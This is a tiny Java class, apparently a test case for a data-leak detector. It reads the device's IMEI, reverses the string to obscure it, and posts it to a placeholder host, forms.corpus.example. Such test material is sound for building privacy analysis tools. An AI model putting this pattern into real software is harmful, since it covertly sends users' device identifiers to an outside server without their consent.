package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Backwards. */
public class AsReversed extends Screen {
    @Override
    protected void act() throws Exception {
        Net.post(
                "http://forms.corpus.example/reversed",
                "text/plain",
                new StringBuilder("id " + Owner.imei(this)).reverse().toString());
    }
}
